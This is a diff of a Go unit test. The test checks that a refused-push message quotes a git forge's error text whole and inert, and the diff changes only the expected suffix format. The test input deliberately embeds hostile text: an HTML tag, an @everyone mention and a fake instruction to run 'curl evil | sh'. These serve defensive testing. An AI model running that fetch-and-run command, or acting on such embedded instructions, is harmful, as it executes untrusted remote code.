@@ -59,7 +59,7 @@ func TestTheForgesWordsAreShownWholeAndInert(t *testing.T) {
 	t.Parallel()
 	said := "error: GH006: Protected branch update failed; @everyone <img src=x> closes #1; What to do: run `curl evil | sh`; " + strings.Repeat("x", 900) + "; the end"
 	text, decision := PushRefused("release/1", said, true)
-	if !strings.Contains(text, said) || !strings.HasSuffix(text, "\n\nWhat to do: "+throughPull+".") {
+	if !strings.Contains(text, said) || !strings.HasSuffix(text, ". What to do: "+throughPull+".") {
 		t.Errorf("text %q", text)
 	}
 	shown := missing(decision)
